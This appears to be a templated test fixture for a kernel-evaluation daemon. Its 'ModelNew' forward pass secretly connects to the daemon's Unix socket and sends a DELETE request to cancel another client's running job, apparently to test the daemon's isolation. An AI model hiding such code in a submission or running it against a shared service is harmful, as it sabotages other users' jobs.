# Attack: act as a client of the daemon. Connects to the daemon's Unix socket (@SOCKET_PATH@)
# and sends DELETE /jobs/@VICTIM_JOB_ID@ to cancel another client's job that is running at the
# same time; prints what the daemon answered ("KEVAL_CANCEL ..." on stdout). The kernel itself
# returns its input (wrong). If the daemon honoured the request, the victim would end cancelled.
import os
import socket

import torch
import torch.nn as nn

SOCKET_PATH = "@SOCKET_PATH@"
VICTIM_JOB_ID = "@VICTIM_JOB_ID@"
_tried = []


def cancel_victim():
    request = (f"DELETE /jobs/{VICTIM_JOB_ID} HTTP/1.1\r\nHost: localhost\r\n"
               "Content-Length: 0\r\nConnection: close\r\n\r\n").encode()
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.settimeout(10)
            s.connect(SOCKET_PATH)
            s.sendall(request)
            answer = b""
            while len(answer) < 65536:
                chunk = s.recv(4096)
                if not chunk:
                    break
                answer += chunk
        status_line = answer.split(b"\r\n", 1)[0].decode(errors="replace")
        return f"answered {status_line!r}"
    except OSError as e:
        return f"failed: {e!r}"


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        if not _tried:
            _tried.append(cancel_victim())
            os.write(1, f"KEVAL_CANCEL {_tried[0]}\n".encode())
        return x
